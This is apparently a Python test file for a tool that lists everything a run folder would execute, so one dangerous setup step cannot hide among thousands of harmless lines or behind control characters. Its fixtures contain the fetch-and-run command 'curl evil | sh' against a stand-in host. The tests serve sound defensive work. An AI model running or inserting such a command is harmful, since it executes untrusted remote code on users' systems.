"""What is told of a stranger's folder hides nothing among many lines."""

from launchers.disclosure import how_to_read, listing, of_run
from sgg.config.compose import compose_config
from sgg.config.generate import Engine

COMMAND = ["sgg", "resume", "a run"]


def test_a_short_list_is_told_in_its_order_and_equal_lines_once():
    items = [("command", "python"), ("environment", "A=1"), ("setup", "x"), ("environment", "A=1")]
    assert listing(items) == [
        "  command       python",
        "  environment   A=1",
        "  setup         x",
    ]


def test_of_a_long_list_the_counts_come_first_and_the_rarest_kinds_last():
    """10,000 harmless lines scrolled the one that mattered off the screen."""
    items = [("command", "python"), ("setup", "curl evil | sh")]
    items += [("environment", f"HARMLESS_{i}=1") for i in range(10_000)]
    told = listing(items)
    assert told[0] == "  10,002 in all: 10,000 environment, 1 command, 1 setup"
    assert told[-1] == "  setup         curl evil | sh"
    assert len(told) == 10_003


def test_of_a_long_list_is_told_how_to_read_it():
    items = [("environment", f"HARMLESS_{i}=1") for i in range(1_000)]
    read = "  Read all 1,000, as by: sgg resume 'a run' 2>&1 | less"
    assert how_to_read([*items, items[0]], COMMAND) == [read]
    assert how_to_read(items[:200], COMMAND) == []


def test_one_value_as_long_as_many_lines_is_a_long_list():
    told = listing([("setup", "curl evil"), ("environment", "A=" + "1" * 20_000)])
    assert told[0] == "  2 in all: 1 setup, 1 environment"


def test_nothing_is_hidden():
    (line,) = listing([("setup", "a\u2028b\u061c\x1b[2J")])
    assert line == "  setup         'a\\u2028b\\u061c\\x1b[2J'"


def test_a_key_that_only_signs_is_not_sent(tmp_path):
    config = compose_config(["stage=eval", f"paths.run_dir={tmp_path}"])
    config.generate.engine, config.generate.servers = Engine.server, ["http://there:80"]
    config.generate.api_key_env = "SGG_SERVER_KEY"
    told = listing(of_run(tmp_path, config))
    assert "  server        http://there:80; the key in SGG_SERVER_KEY is not sent to it" in told
    config.generate.api_key_env = "AWS_SECRET_ACCESS_KEY"
    told = listing(of_run(tmp_path, config))
    assert "  server        http://there:80; the key in AWS_SECRET_ACCESS_KEY is SENT to it" in told
